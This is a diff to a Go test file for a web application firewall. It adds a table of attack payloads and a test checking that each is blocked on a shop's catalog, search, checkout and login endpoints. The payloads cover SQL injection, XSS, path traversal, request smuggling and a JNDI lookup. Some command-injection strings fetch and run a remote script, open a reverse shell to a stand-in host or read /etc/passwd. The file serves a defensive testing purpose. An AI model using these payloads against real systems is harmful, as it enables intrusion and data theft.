@@ -1,6 +1,7 @@
 package waf
 
 import (
+	"encoding/json"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
@@ -184,5 +185,65 @@ func TestExclusionsStayNarrow(t *testing.T) {
 				t.Errorf("status %d, want blocked=%v", rec.Code, tc.wantBlocked)
 			}
 		})
+	}
+}
+
+// payloads are one or more attacks per class, each sent by TestEveryAttackClassOnEveryEndpoint in
+// the field a shopper controls on each of catalog, search, checkout and login.
+var payloads = []struct{ class, value string }{
+	{"sql injection", "' OR '1'='1' --"},
+	{"sql injection", "1 UNION SELECT username, password FROM users--"},
+	{"sql injection", "x'; SELECT pg_sleep(10)--"},
+	{"xss", "<script>alert(document.cookie)</script>"},
+	{"xss", `"><img src=x onerror=alert(1)>`},
+	{"xss", "<svg/onload=alert(1)>"},
+	{"path traversal", "../../../../etc/passwd"},
+	{"path traversal", "..\\..\\..\\windows\\win.ini"},
+	{"command injection", "x; cat /etc/passwd"},
+	{"command injection", "$(curl http://evil.example/x.sh | sh)"},
+	{"command injection", "x | nc -e /bin/sh evil.example 4444"},
+	{"protocol attack", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK"},
+	{"protocol attack", "x\r\n\r\nGET /api/v1/admin/orders HTTP/1.1\r\nHost: shop\r\n"},
+	{"protocol attack", "${jndi:ldap://evil.example/a}"},
+}
+
+// TestEveryAttackClassOnEveryEndpoint sends every payload to catalog (query), search (query),
+// checkout (JSON and form body) and login (JSON and form body): all must be blocked.
+func TestEveryAttackClassOnEveryEndpoint(t *testing.T) {
+	t.Parallel()
+	h := testWAF(t, Block, nil).Wrap(echo)
+	js := func(v string) string {
+		b, _ := json.Marshal(v)
+		return string(b)
+	}
+	endpoints := []struct {
+		name  string
+		build func(v string) request
+	}{
+		{"catalog", func(v string) request {
+			return request{method: "GET", target: "/api/v1/products?category=" + q(v) + "&limit=20"}
+		}},
+		{"search", func(v string) request { return request{method: "GET", target: "/api/v1/search?q=" + q(v)} }},
+		{"checkout json", func(v string) request {
+			return request{method: "POST", target: "/api/v1/checkout", contentType: jsonType,
+				body: `{"cart_id":"c_01HZX","email":"a@example.com","shipping_address":{"name":` + js(v) + `,"line1":"1 High St","city":"Leeds","postal_code":"LS1","country":"GB"}}`}
+		}},
+		{"checkout form", func(v string) request {
+			return request{method: "POST", target: "/checkout", contentType: formType, body: "name=" + q(v) + "&line1=1+High+St"}
+		}},
+		{"login json", func(v string) request {
+			return request{method: "POST", target: "/api/v1/auth/login", contentType: jsonType, body: `{"email":` + js(v) + `,"password":"x"}`}
+		}},
+		{"login form", func(v string) request {
+			return request{method: "POST", target: "/account/login", contentType: formType, body: "email=" + q(v) + "&password=x"}
+		}},
+	}
+	for _, p := range payloads {
+		for _, e := range endpoints {
+			rq := e.build(p.value)
+			if rec := serve(h, rq.build()); rec.Code < 400 || rec.Header().Get("Pasar-Incident") == "" {
+				t.Errorf("%s %q on %s: status %d, want it blocked", p.class, p.value, e.name, rec.Code)
+			}
+		}
 	}
 }
